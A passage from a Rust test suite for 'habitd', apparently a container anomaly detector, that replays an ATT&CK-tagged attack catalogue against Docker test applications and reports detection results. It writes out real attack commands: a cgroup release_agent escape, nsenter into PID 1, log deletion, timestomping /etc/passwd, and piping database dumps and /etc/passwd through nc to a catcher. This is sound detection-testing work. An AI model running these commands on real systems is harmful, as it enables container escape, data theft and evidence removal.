            id: "ptrace",
            name: "ptrace attach",
            mitre: "T1055.008",
            applies: all,
            steps: |_| vec![run(&["eval-actions", "ptrace-attach"])],
        },
        Technique {
            id: "mount",
            name: "mount a cgroup hierarchy",
            mitre: "T1611",
            applies: all,
            steps: |_| vec![root_run(&["eval-actions", "mount"])],
        },
        Technique {
            id: "unshare",
            name: "unshare a mount namespace",
            mitre: "T1611",
            applies: all,
            steps: |_| vec![root_run(&["eval-actions", "unshare"])],
        },
        Technique {
            id: "release-agent",
            name: "cgroup release_agent escape attempt",
            mitre: "T1611",
            applies: all,
            steps: |_| {
                vec![root_sh(
                    "mkdir -p /tmp/cg; mount -t cgroup -o memory cgroup /tmp/cg; \
                     echo /tmp/.x > /tmp/cg/release_agent; \
                     echo /tmp/.x > /sys/fs/cgroup/memory/release_agent; true",
                )]
            },
        },
        Technique {
            id: "nsenter",
            name: "nsenter into pid 1's namespaces",
            mitre: "T1611",
            applies: all,
            steps: |_| {
                vec![root_run(&[
                    "nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "id",
                ])]
            },
        },
        Technique {
            id: "log-deletion",
            name: "delete the application's logs",
            mitre: "T1070.002",
            applies: all,
            steps: |x| vec![root_sh(format!("rm -f {}/*", x.app.log_dir()))],
        },
        Technique {
            id: "timestomp",
            name: "timestomp a binary and /etc/passwd (touch -d)",
            mitre: "T1070.006",
            applies: all,
            steps: |_| {
                vec![root_run(&[
                    "touch",
                    "-d",
                    "2020-01-01 00:00:00",
                    "/usr/local/sbin/eval-actions",
                    "/etc/passwd",
                ])]
            },
        },
        Technique {
            id: "memfd-exec",
            name: "fileless execution (memfd_create + fexecve)",
            mitre: "T1620",
            applies: all,
            steps: |_| vec![run(&["eval-actions", "memfd"])],
        },
        Technique {
            id: "shm-exec",
            name: "execute from /dev/shm",
            mitre: "T1059, T1036.005",
            applies: all,
            steps: |_| vec![sh("cp /bin/busybox /dev/shm/.x && /dev/shm/.x id")],
        },
        Technique {
            id: "exfil",
            name: "exfiltration by an unusual program (tar | nc to the attacker)",
            mitre: "T1048",
            applies: all,
            steps: |x| {
                let what = match x.app {
                    App::Postgres => "pg_dump -U postgres postgres".to_string(),
                    App::Redis => "cat /var/lib/redis/dump.rdb /etc/passwd".to_string(),
                    _ => "tar -czf - /etc".to_string(),
                };
                vec![sh(format!(
                    "{what} 2>/dev/null | nc -w 3 {} {}",
                    x.gateway, x.catcher
                ))]
            },
        },
        Technique {
            id: "packet-socket",
            name: "packet socket (sniffing)",
            mitre: "T1040",
            applies: all,
            steps: |_| vec![root_run(&["eval-actions", "packet"])],
        },
        Technique {
            id: "kernel-module",
            name: "kernel module load (finit_module)",
            mitre: "T1547.006",
            applies: all,
            steps: |_| vec![root_run(&["eval-actions", "finit-module"])],
        },
    ]
}

fn run_step(x: &Ctx, step: &Step) -> String {
    match step {
        Step::Exec { user, detach, args } => {
            let mut opts: Vec<&str> = Vec::new();
            if let Some(u) = user {
                opts.extend(["-u", u.as_str()]);
            }
            if *detach {
                opts.push("-d");
            }
            let a: Vec<&str> = args.iter().map(String::as_str).collect();
            let out = x.c.exec(&opts, &a);
            format!(
                "exec {a:?}: exit {:?} {}",
                out.status.code(),
                String::from_utf8_lossy(&out.stderr)
                    .trim()
                    .chars()
                    .take(160)
                    .collect::<String>()
            )
        }
        Step::Redis(args) => {
            let a: Vec<&str> = args.iter().map(String::as_str).collect();
            format!("redis {a:?}: {:?}", redis_command(&x.c.ip(), &a))
        }
        Step::Sql(sql) => {
            let out = psql(&x.c.ip(), sql);
            format!(
                "sql {sql:?}: exit {:?} {}",
                out.status.code(),
                String::from_utf8_lossy(&out.stderr).trim()
            )
        }
        Step::Connect(port, send) => {
            let r = TcpStream::connect_timeout(
                &format!("{}:{port}", x.c.ip()).parse().unwrap(),
                Duration::from_secs(2),
            )
            .and_then(|mut s| {
                s.set_read_timeout(Some(Duration::from_secs(3)))?;
                s.write_all(send.as_bytes())?;
                let mut out = String::new();
                let _ = s.read_to_string(&mut out);
                Ok(out)
            });
            format!("connect :{port}: {r:?}")
        }
        Step::Sleep(d) => {
            std::thread::sleep(*d);
            format!("sleep {d:?}")
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Reading the alerts
// ---------------------------------------------------------------------------------------------

fn time_of(a: &Value) -> SystemTime {
    a["time"]
        .as_str()
        .and_then(parse_rfc3339)
        .unwrap_or(SystemTime::UNIX_EPOCH)
}

/// The time an occurrence is counted at: a summary's first repeat, else the event time.
fn counted_time(a: &Value) -> SystemTime {
    a["habitd"]["first_seen"]
        .as_str()
        .and_then(parse_rfc3339)
        .unwrap_or_else(|| time_of(a))
}

fn occurrences(a: &Value) -> u64 {
    a["habitd"]["count"].as_u64().unwrap_or(1)
}

fn suppressed(a: &Value) -> bool {
    a["habitd"]["suppressed"] == true
}

fn novel_items(a: &Value) -> Vec<String> {
    a["habitd"]["novel"]
        .as_array()
        .map(|n| {
            n.iter()
                .map(|n| {
                    format!(
                        "{}: {}",
                        n["dimension"].as_str().unwrap_or(""),
                        n["item"]
                            .as_str()
                            .unwrap_or("")
                            .chars()
                            .take(90)
                            .collect::<String>()
                    )
                })
                .collect()
        })
        .unwrap_or_default()
}

/// What an alert names, short: the rule (or the anomaly's items) and its key field.
fn named(a: &Value) -> String {
    let f = &a["output_fields"];
    let what = ["fd.name", "proc.cmdline", "proc.exepath"]
        .iter()
        .find_map(|k| f[*k].as_str().filter(|s| !s.is_empty()))
        .unwrap_or("")
        .chars()
        .take(80)
        .collect::<String>();
    let rule = a["rule"].as_str().unwrap_or("");
    let novel = novel_items(a);
    let mut s = if rule == ANOMALY {
        format!("anomaly {}", novel.join(", "))
    } else {
        format!("{rule} ({what})")
    };
    if rule != ANOMALY && !novel.is_empty() {
        s.push_str(&format!(" +novel {}", novel.join(", ")));
    }
    format!("{s} [{}]", a["priority"].as_str().unwrap_or(""))
}

/// An alert of `key` about container `short` (or about the whole workload: rate alerts).
fn about(a: &Value, key: &str, short: &str) -> bool {
    if a["habitd"]["workload"] != key {
        return false;
    }
    match a["output_fields"]["container.id"].as_str() {
        Some(id) => id == short,
        None => true,
    }
}

/// Per (application, step): rule hits (rules alone), anomaly alerts (baseline alone), alerts
/// not suppressed (habitd fused), what the first fused alerts name.
type BenignCounts = (u64, u64, u64, Vec<String>);

/// One benign step.
struct StepWindow {
    app: Option<App>,
    name: String,
    t0: SystemTime,
    t1: SystemTime,
    notes: String,
}

/// One measured (technique, application).
#[derive(Default)]
struct Outcome {
    rules: bool,
    baseline: bool,
    fused: bool,
    /// Rule hits that carried novelty below the anomaly threshold (the baseline saw it new).
    novel_below: Vec<String>,
    named: Vec<String>,
    fused_named: Vec<String>,
    escalated: bool,
    /// Events habitd saw of it (when fused missed it: seen but not alerted, or not seen).
    seen: Vec<String>,
    steps: Vec<String>,
}

// ---------------------------------------------------------------------------------------------
// The run
// ---------------------------------------------------------------------------------------------

// Not in the README's test command yet: issue 11's targets (0 benign alerts, every technique
// detected) are not met, and the suite asserts them. Run it with
// `cargo test --test eval_apps -- --ignored --nocapture` (or scripts/eval-apps.sh).
#[test]
#[ignore = "minutes long: scripts/test.sh runs its smoke mode (scripts/eval-apps.sh smoke)"]
fn applications_benign_life_and_attack_catalogue() {
    let started = Instant::now();
    require_docker();
    let m = mode();
    let assert_targets = std::env::var("HABITD_EVAL_ASSERT").as_deref() != Ok("0");

    // Images first (cached): building them is no workload's behaviour.
    let mut images: BTreeMap<App, String> = BTreeMap::new();
    for app in &m.apps {
        images.insert(*app, app_image(app.name()));
    }
    let neighbour_image = app_image("neighbour");
    let key_of = |image: &str| format!("docker.io/{image}");
    let keys: BTreeMap<App, String> = images.iter().map(|(a, i)| (*a, key_of(i))).collect();
    let images_built = started.elapsed();

    let net = Network::create();
    let gateway = net.gateway();
    let (catcher_port, _catcher) = catcher();
    let (files_port, _files) = file_server(std::fs::read(actions_binary()).unwrap());

    let dir = tempfile::tempdir().unwrap();
    // Events are streamed to disk (a full run prints millions of them), never held in memory.
    let mut daemon = Some(Daemon::start_in_streaming(dir.path(), &config(&m)));
    let d = daemon.as_ref().unwrap();

    // ---- learning ----------------------------------------------------------------------------
    let t_learning = SystemTime::now();
    let pid = std::process::id();
    let mut containers: BTreeMap<App, AppContainer> = BTreeMap::new();
    for app in &m.apps {
        let c = AppContainer::run(
            &net,
            &images[app],
            app.alias(),
            &format!("habitd-eval-{pid}-{}", app.name()),
        );
        wait_serving(*app, &c);
        containers.insert(*app, c);
    }
    if let Some(pg) = containers.get(&App::Postgres) {
        let out = psql(
            &pg.ip(),
            "CREATE TABLE IF NOT EXISTS events(id serial PRIMARY KEY, v text, t timestamptz DEFAULT now())",
        );
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    let ips: BTreeMap<App, Arc<Mutex<String>>> = containers
        .iter()
        .map(|(a, c)| (*a, Arc::new(Mutex::new(c.ip()))))
        .collect();
    let rates: BTreeMap<App, Arc<AtomicU32>> = m
        .apps
        .iter()
        .map(|a| (*a, Arc::new(AtomicU32::new(1))))
        .collect();
    let _loads: Vec<Background> = m
        .apps
        .iter()
        .map(|a| client_load(*a, ips[a].clone(), rates[a].clone()))
        .collect();
    let checked = Arc::new(Mutex::new(
        containers
            .iter()
            .map(|(a, c)| (*a, c.id.clone()))
            .collect::<Vec<_>>(),
    ));
    let _checks = health_checks(checked.clone());

    // The maintenance learning sees, as if it had covered three days: three rotations
    // (generations .1 to .3, the second and third gzipped), reloads and periodic jobs, each
    // round in a learning interval of its own. Three, because maintenance that a rule flags
    // (a shell through `docker exec`, a Python job) is held, not learned, until it has
    // recurred in 3 learning intervals (habitd's habit criterion: never learn a one-off).
    std::thread::sleep(Duration::from_secs(m.learn_min / 6));
    for round in 0..MAINTENANCE_ROUNDS {
        if round > 0 {
            std::thread::sleep(Duration::from_secs(LEARNING_INTERVAL_SECS + 1));
        }
        for (app, c) in &containers {
            let _ = c.exec(&["-u", "0"], &["sh", "-c", &app.rotate_script()]);
            let _ = app.reload(c);
            let _ = app.job(c);
        }
    }
    let mut learned = BTreeMap::new();
    for (app, key) in &keys {
        let w = d.wait_state_not(key, "learning", Duration::from_secs(m.learn_max + 120));
        println!("{} learned: {w}", app.name());
        learned.insert(*app, w);
        // The baseline as learned (its rate model's modes and transients explain rate alerts).
        if let Some((200, body)) = d.get(&format!("/api/v1/baselines/{key}")) {
            let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("target/eval_apps.baselines");
            let _ = std::fs::create_dir_all(&dir);
            let _ = std::fs::write(dir.join(format!("{}.json", app.name())), body);
        }
    }
    let learned_after = started.elapsed();
    std::thread::sleep(Duration::from_secs(2));

    // ---- benign life in detection, step by step --------------------------------------------
    let t_detect = SystemTime::now();
    let mut windows: Vec<StepWindow> = Vec::new();
    let want = |s: &str| m.steps.as_ref().is_none_or(|l| l.iter().any(|x| x == s));
    {
        let t0 = SystemTime::now();
        std::thread::sleep(Duration::from_secs(m.steady));
        windows.push(StepWindow {
            app: None,
            name: "steady load + health checks".into(),
            t0,
            t1: SystemTime::now(),
            notes: String::new(),
        });
    }
    for (app, c) in &containers {
        let mut step = |name: &str, f: &mut dyn FnMut() -> String| {
            if !want(name) {
                return;
            }
            let t0 = SystemTime::now();
            let notes = f();
            std::thread::sleep(SETTLE);
            println!("benign step {} / {name}: {notes}", app.name());
            windows.push(StepWindow {
                app: Some(*app),
                name: name.to_string(),
                t0,
                t1: SystemTime::now(),
                notes,
            });
        };
        step("restart", &mut || {
            let out = docker(&["restart", "-t", "5", &c.id]);
            wait_serving(*app, c);
            *ips[app].lock().unwrap() = c.ip();
            std::thread::sleep(Duration::from_secs(5));
            format!("docker restart: exit {:?}", out.status.code())
        });
        step("scale 1→3→1", &mut || {
            let extra: Vec<AppContainer> = (1..=2)
                .map(|i| {
                    AppContainer::run(
                        &net,
                        &images[app],
                        app.alias(),
                        &format!("habitd-eval-{pid}-{}-{i}", app.name()),
                    )
                })
                .collect();
            for e in &extra {
                wait_serving(*app, e);
                checked.lock().unwrap().push((*app, e.id.clone()));
            }
            // Some of the clients' requests go to the new replicas.
            let ips2: Vec<Arc<Mutex<String>>> =
                extra.iter().map(|e| Arc::new(Mutex::new(e.ip()))).collect();
            let extra_loads: Vec<Background> = ips2
                .iter()
                .map(|ip| client_load(*app, ip.clone(), Arc::new(AtomicU32::new(1))))
                .collect();
            if *app == App::Postgres {
                for e in &extra {
                    let _ = psql(
                        &e.ip(),
                        "CREATE TABLE IF NOT EXISTS events(id serial PRIMARY KEY, v text, t timestamptz DEFAULT now())",
                    );
                }
            }
            std::thread::sleep(Duration::from_secs(12));
            drop(extra_loads);
            checked
                .lock()
                .unwrap()
                .retain(|(_, id)| extra.iter().all(|e| &e.id != id));
            drop(extra);
            "2 replicas added for 15 s, then removed".into()
        });
        step("log rotation", &mut || {
            let script = app.rotate_script();
            let mut fails = 0;
            for _ in 0..12 {
                let out = c.exec(&["-u", "0"], &["sh", "-c", &script]);
                fails += usize::from(!out.status.success());
                std::thread::sleep(ROTATION_SPACING);
            }
            // Listed from the host (through the container's root), not by a command in the
            // container: that would be an operator's new program, not the rotation.
            format!(
                "12 rotations ({fails} failed): {}",
                c.list_dir(app.log_dir()).join(" ")
            )
        });
        step("config reload", &mut || {
            let out = app.reload(c);
            format!("{:?}", out.map(|o| o.status.code()))
        });
        step("health checks", &mut || {
            for _ in 0..5 {
                let mut args = vec!["exec", c.id.as_str()];
                args.extend_from_slice(app.health_check());
                let _ = docker(&args);
            }
            "5 health checks in a row".into()
        });
        if app.has_job() {
            step("periodic job", &mut || {
                let out = app.job(c);
                std::thread::sleep(Duration::from_secs(2));
                format!("{:?}", out.map(|o| o.status.code()))
            });
        }
        step("burst 3x", &mut || {
            rates[app].store(3, Ordering::Relaxed);
            std::thread::sleep(Duration::from_secs(20));
            rates[app].store(1, Ordering::Relaxed);
            "clients at 3x the learned rate for 20 s".into()
        });
    }
    let _neighbour = if want("neighbour") {
        let t0 = SystemTime::now();
        let nb = AppContainer::run(
            &net,
            &neighbour_image,
            "neighbour",
            &format!("habitd-eval-{pid}-neighbour"),
        );
        let nb_ip = Arc::new(Mutex::new(nb.ip()));
        let nb_load = Background::start(move |_| {
            let ip = nb_ip.lock().unwrap().clone();
            http(&ip, 8080, "GET", "/index.html", "");
            std::thread::sleep(Duration::from_millis(500));
        });
        std::thread::sleep(Duration::from_secs(20));
        windows.push(StepWindow {
            app: None,
            name: "neighbour starts and learns".into(),
            t0,
            t1: SystemTime::now(),
            notes: format!("{neighbour_image} started beside them"),
        });
        Some((nb, nb_load))
    } else {
        None
    };
    let t_attacks = SystemTime::now();
    let benign_done = started.elapsed();

    // ---- the attacks -------------------------------------------------------------------------
    let techniques = catalogue();
    let peers: BTreeMap<App, String> = containers.iter().map(|(a, c)| (*a, c.ip())).collect();
    // (technique index, app, t0, step log)
    let mut runs: Vec<(usize, App, SystemTime, Vec<String>)> = Vec::new();
    for (app, c) in &containers {
        let x = Ctx {
            app: *app,
            c,
            gateway: gateway.clone(),
            catcher: catcher_port,
            files: files_port,
            peers: peers.clone(),
        };
        for (i, t) in techniques.iter().enumerate() {
            if m.techniques
                .as_ref()
                .is_some_and(|l| l.iter().all(|x| x != t.id))
                || !(t.applies)(*app, &x)
            {
                continue;
            }
            let t0 = SystemTime::now() - Duration::from_millis(20);
            let log: Vec<String> = (t.steps)(&x).iter().map(|s| run_step(&x, s)).collect();
            println!("attack {} on {}: {log:?}", t.id, app.name());
            runs.push((i, *app, t0, log));
            std::thread::sleep(ATTACK_SETTLE);
        }
    }
    let t_end = SystemTime::now();
    // Every attack's events handled before the daemon stops (it reports how far it got): a
    // daemon behind the kernel must show as late, not as attacks missed.
    let caught_up = d.wait_handled_until(t_end, Duration::from_secs(120));
    println!("daemon caught up with the end of the attacks after {caught_up:?}");
    let log = d.log();
    let metrics = d.get("/metrics").map(|(_, body)| body).unwrap_or_default();
    drop(_checks);
    drop(_loads);
    // Stopping the daemon flushes the summaries of repeated alerts into the file; the events
    // it printed are all on disk once `stop` returns.
    if let Some(mut d) = daemon.take() {
        d.stop();
    }
    // One pass over the events on disk: the applications' containers' events go to the report
    // directory, and each attack run keeps at most 8 of what habitd saw in its window (for the
    // "missed: what it saw" diagnostics). Memory stays bounded whatever the run printed.
    let target = Path::new(env!("CARGO_MANIFEST_DIR")).join("target");
    let _ = std::fs::create_dir_all(&target);
    let shorts: Vec<String> = containers.values().map(|c| c.short().to_string()).collect();
    let mut seen_by_run: Vec<Vec<String>> = vec![Vec::new(); runs.len()];
    {
        let mut out = std::io::BufWriter::new(
            std::fs::File::create(target.join("eval_apps.events.jsonl")).unwrap(),
        );
        common::for_each_event_in(&dir.path().join("events.jsonl"), |line, e| {
            let f = &e["output_fields"];
            let Some(id) = f["container.id"].as_str() else {
                return;
            };
            if !shorts.iter().any(|s| s == id) {
                return;
            }
            let _ = writeln!(out, "{line}");
            let Some(t) = e["time"].as_str().and_then(parse_rfc3339) else {
                return;
            };
            for (n, (_, app, t0, _)) in runs.iter().enumerate() {
                let t1 = runs.get(n + 1).map(|r| r.2).unwrap_or(t_end);
                if t < *t0
                    || t >= t1
                    || id != containers[app].short()
                    || seen_by_run[n].len() >= 8
                    || matches!(e["kind"].as_str(), Some("fork" | "exit" | "accept"))
                    || is_routine(*app, f)
                {
                    continue;
                }
                let what = ["fd.name", "proc.args"]
                    .iter()
                    .find_map(|k| f[*k].as_str().filter(|s| !s.is_empty()))
                    .unwrap_or("");
                seen_by_run[n].push(format!(
                    "{} {} {} {}",
                    e["kind"].as_str().unwrap_or(""),
                    f["evt.type"].as_str().unwrap_or(""),
                    f["proc.name"].as_str().unwrap_or(""),
                    what.chars().take(70).collect::<String>()
                ));
            }
        });
        let _ = out.flush();
    }
    let raw = std::fs::read_to_string(dir.path().join("alerts.jsonl")).unwrap_or_default();
    let alerts: Vec<Value> = raw
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();

    // ---- benign counts -----------------------------------------------------------------------
    let is_ours = |a: &Value| keys.values().any(|k| a["habitd"]["workload"] == k.as_str());
    let app_of = |a: &Value| {
        keys.iter()
            .find(|(_, k)| a["habitd"]["workload"] == k.as_str())
            .map(|(a, _)| *a)
    };
    // (app, step) -> (rule hits = rules alone, baseline anomaly alerts, fused alerts, examples)
    let mut benign: BTreeMap<(App, String), BenignCounts> = BTreeMap::new();
    for app in &m.apps {
        for w in &windows {
            if w.app.is_none() || w.app == Some(*app) {
                benign.entry((*app, w.name.clone())).or_default();
            }
        }
    }
    for a in alerts.iter().filter(|a| is_ours(a)) {
        let t = counted_time(a);
        if t < t_detect || t >= t_attacks {
            continue;
        }
        let app = app_of(a).unwrap();
        let w = windows.iter().find(|w| t >= w.t0 && t < w.t1);
        let step = match w {
            Some(w) if w.app.is_none() || w.app == Some(app) => w.name.clone(),
            Some(w) => format!(
                "steady (during {} {})",
                w.app.map(App::name).unwrap_or(""),
                w.name
            ),
            None => "between steps".into(),
        };
        let e = benign.entry((app, step)).or_default();
        let n = occurrences(a);
        if a["rule"] != ANOMALY {
            e.0 += n;
        } else {
            e.1 += n;
        }
        if !suppressed(a) {
            e.2 += n;
            if e.3.len() < 4 {
                e.3.push(named(a));
            }
        }
    }
    let learning_alerts = alerts
        .iter()
        .filter(|a| is_ours(a) && counted_time(a) >= t_learning && counted_time(a) < t_detect)
        .filter(|a| !suppressed(a))
        .map(occurrences)
        .sum::<u64>();

    // ---- attack outcomes ---------------------------------------------------------------------
    let mut outcomes: Vec<(usize, App, Outcome)> = Vec::new();
    for (n, (i, app, t0, steps)) in runs.iter().enumerate() {
        let t1 = runs.get(n + 1).map(|r| r.2).unwrap_or(t_end);
        let c = &containers[app];
        let key = &keys[app];
        let mine: Vec<&Value> = alerts
            .iter()
            .filter(|a| about(a, key, c.short()))
            .filter(|a| {
                let t = counted_time(a);
                t >= *t0 && t < t1
            })
            .collect();
        let mut o = Outcome {
            steps: steps.clone(),
            ..Outcome::default()
        };
        for a in &mine {
            let rule = a["rule"] != ANOMALY;
            o.rules |= rule;
            o.baseline |= !rule;
            if !suppressed(a) {
                o.fused = true;
                let s = named(a);
                if !o.fused_named.contains(&s) && o.fused_named.len() < 6 {
                    o.fused_named.push(s);
                }
                if rule && !novel_items(a).is_empty() {
                    o.escalated = true;
                    for nv in novel_items(a) {
                        if !o.novel_below.contains(&nv) {
                            o.novel_below.push(nv);
                        }
                    }
                }
            }
            let s = named(a);
            if !o.named.contains(&s) && o.named.len() < 8 {
                o.named.push(s);
            }
        }
        if !o.fused || !o.baseline {
            // What habitd saw of it: its container, its window, not the server's own routine.
            o.seen = std::mem::take(&mut seen_by_run[n]);
        }
        outcomes.push((*i, *app, o));
    }

    // ---- the report --------------------------------------------------------------------------
    let _ = std::fs::write(target.join("eval_apps.alerts.jsonl"), &raw);
    // The daemon's log and its last metrics (kernel drops, held events), to explain misses.
    let _ = std::fs::write(target.join("eval_apps.habitd.log"), &log);
    let _ = std::fs::write(target.join("eval_apps.metrics.txt"), &metrics);
    let mut md = String::new();
    md.push_str(&format!(
        "# habitd on real applications (tests/eval_apps.rs, mode `{}`)\n\n",
        m.name
    ));
    md.push_str(&format!(
        "Applications: {}. Images from this machine's Debian packages (tests/eval/images.sh): {}. \
         Settings: learning.min {} s, stable {} s, max {} s, interval 5 s, probes.counters_interval \
         {COUNTERS_INTERVAL_SECS} s, **false_alarm_rate at its default (0.01)**; containers without Docker's seccomp \
         filter (the Kubernetes default). Images ready after {:.0} s, learned after {:.0} s, benign \
         steps done after {:.0} s, whole run {:.0} s; the daemon had handled the last attack's \
         events {}. Alerts (not suppressed) of the applications while learning: \
         {learning_alerts}.\n\n",
        m.apps.iter().map(|a| a.name()).collect::<Vec<_>>().join(", "),
        images.values().map(|i| format!("`{i}`")).collect::<Vec<_>>().join(", "),
        m.learn_min,
        m.learn_stable,
        m.learn_max,
        images_built.as_secs_f64(),
        learned_after.as_secs_f64(),
        benign_done.as_secs_f64(),
        started.elapsed().as_secs_f64(),
        caught_up.map_or("**not within 120 s**".to_string(), |c| format!(
            "{:.1} s after it",
            c.as_secs_f64()
        )),
    ));
    md.push_str("Learned state per application:\n\n");
    for (app, w) in &learned {
        md.push_str(&format!(
            "- {}: state `{}`{}, profile sizes {}\n",
            app.name(),
            w["state"].as_str().unwrap_or(""),
            if w["partial"] == true {
                " (partial)"
            } else {
                ""
            },
            w["profile_sizes"]
        ));
    }
    md.push_str("\n## Benign life in detection\n\n");
    md.push_str(
        "| application | step | rules alone (hits) | baseline alone (anomaly alerts) | habitd fused (alerts) | fused alerts name |\n|---|---|---:|---:|---:|---|\n",
    );
    let mut benign_fused_total = 0;
    for ((app, step), (r, b, f, ex)) in &benign {
        benign_fused_total += f;
        md.push_str(&format!(
            "| {} | {} | {r} | {b} | {f} | {} |\n",
            app.name(),
            step,
            ex.join("; ").replace('|', "\\|")
        ));
    }
    md.push_str("\nSteps: ");
    for w in &windows {
        md.push_str(&format!(
            "{}{}: {}; ",
            w.app.map(|a| format!("{} ", a.name())).unwrap_or_default(),
            w.name,
            w.notes.replace('|', "\\|")
        ));
    }
    md.push_str("\n\n## Attack catalogue\n\n");
    md.push_str(
        "| technique | ATT&CK | application | rules alone | baseline alone | habitd fused | what the fused alerts name | escalated |\n|---|---|---|---|---|---|---|---|\n",
    );
    let yes = |b: bool| if b { "yes" } else { "**NO**" };
    for (i, app, o) in &outcomes {
        let t = &techniques[*i];
        md.push_str(&format!(
            "| {} (`{}`) | {} | {} | {} | {} | {} | {} | {} |\n",
            t.name.replace('|', "\\|"),
            t.id,
            t.mitre,
            app.name(),
            yes(o.rules),
            yes(o.baseline),
            yes(o.fused),
            o.fused_named.join("; ").replace('|', "\\|"),
            if o.escalated { "yes" } else { "no" }
        ));
    }
    let n = outcomes.len();
    let count = |f: fn(&Outcome) -> bool| outcomes.iter().filter(|(_, _, o)| f(o)).count();
    let (nr, nb, nf) = (
        count(|o| o.rules),
        count(|o| o.baseline),
        count(|o| o.fused),
    );
    md.push_str(&format!(
        "\n**Summary** ({n} technique×application runs, {} techniques): detected by rules alone \
         {nr}/{n}, by the baseline alone {nb}/{n}, by habitd fused {nf}/{n}; benign alerts \
         (habitd fused) {benign_fused_total}.\n",
        outcomes
            .iter()
            .map(|(i, _, _)| *i)
            .collect::<std::collections::BTreeSet<_>>()
            .len()
    ));
    let missed: Vec<&(usize, App, Outcome)> =
        outcomes.iter().filter(|(_, _, o)| !o.fused).collect();
    if !missed.is_empty() {
        md.push_str("\n## Missed by habitd fused: what it saw\n\n");
        for (i, app, o) in &missed {
            md.push_str(&format!(
                "- `{}` on {}: events {}; steps {}\n",
                techniques[*i].id,
                app.name(),
                if o.seen.is_empty() {
                    "none (not seen)".to_string()
                } else {
                    o.seen.join(" · ").replace('|', "\\|")
                },
                o.steps.join(" · ").replace('|', "\\|")
            ));
        }
    }
    println!("\n{md}");
    let _ = std::fs::write(target.join("eval_apps.md"), &md);
    let report = json!({
        "mode": m.name,
        "config": config(&m),
        "images": images.iter().map(|(a, i)| (a.name(), i.clone())).collect::<BTreeMap<_, _>>(),
        "seconds": {
            "images": images_built.as_secs_f64(),
            "learned": learned_after.as_secs_f64(),
            "benign_done": benign_done.as_secs_f64(),
            "total": started.elapsed().as_secs_f64(),
            // How long after the last attack the daemon had handled its events (null: not
            // within 120 s).
            "caught_up_after": caught_up.map(|c| c.as_secs_f64()),
        },
        "learned": learned.iter().map(|(a, w)| (a.name(), w.clone())).collect::<BTreeMap<_, _>>(),
        "learning_alerts": learning_alerts,
        "benign": benign.iter().map(|((a, s), (r, b, f, ex))| json!({
            "app": a.name(), "step": s, "rules_alone": r, "baseline_alone": b, "fused": f,
            "examples": ex,
        })).collect::<Vec<_>>(),
        "attacks": outcomes.iter().map(|(i, a, o)| json!({
            "technique": techniques[*i].id, "name": techniques[*i].name,
            "started": runs.iter().find(|r| r.0 == *i && r.1 == *a).map(|r| common::rfc3339(r.2)),
            "mitre": techniques[*i].mitre, "app": a.name(),
            "rules_alone": o.rules, "baseline_alone": o.baseline, "fused": o.fused,
            "escalated": o.escalated, "named": o.named, "fused_named": o.fused_named,
            "novel_on_rule_alerts": o.novel_below, "seen_events": o.seen, "steps": o.steps,
        })).collect::<Vec<_>>(),
        "summary": {"runs": n, "rules_alone": nr, "baseline_alone": nb, "fused": nf,
                    "benign_fused": benign_fused_total},
    });
    let _ = std::fs::write(
        target.join("eval_apps.json"),
        serde_json::to_string_pretty(&report).unwrap(),
    );

    // ---- the targets -------------------------------------------------------------------------
    let mut failures = Vec::new();
    for ((app, step), (_, _, f, ex)) in &benign {
        if *f > 0 {
            failures.push(format!(
                "benign: {} / {step}: {f} alerts: {ex:?}",
                app.name()
            ));
        }
    }
    for (i, app, o) in &missed {
        failures.push(format!(
            "missed: {} on {} (seen: {:?})",
            techniques[*i].id,
            app.name(),
            o.seen
        ));
    }
    if m.name == "full" && techniques.len() < 25 {
        failures.push(format!(
            "only {} techniques (at least 25)",
            techniques.len()
        ));
    }
    println!(
        "eval_apps ({}) took {:.0} s; report in target/eval_apps.md",
        m.name,
        started.elapsed().as_secs_f64()
    );
    if assert_targets {
        assert!(
            failures.is_empty(),
            "{} target(s) missed (report: target/eval_apps.md):\n{failures:#?}\nhabitd log tail:\n{}",
            failures.len(),
            tail(&log, 15)
        );
    }
}

/// The application's own routine processes (left out of the "what it saw" diagnostics).
fn is_routine(app: App, f: &Value) -> bool {
    let name = f["proc.name"].as_str().unwrap_or("");
    if name.starts_with("runc") {
        return true;
    }
    let own: &[&str] = match app {
        App::Nginx => &["nginx"],
        App::Redis => &["redis-cli"],
        App::Postgres => &["postgres", "pg_isready"],
        App::Pyapp => &[],
    };
    own.contains(&name)
        || app.health_check().first().is_some_and(|h| {
            *h == name && f["proc.args"].as_str().unwrap_or("").contains("127.0.0.1")
        })
}
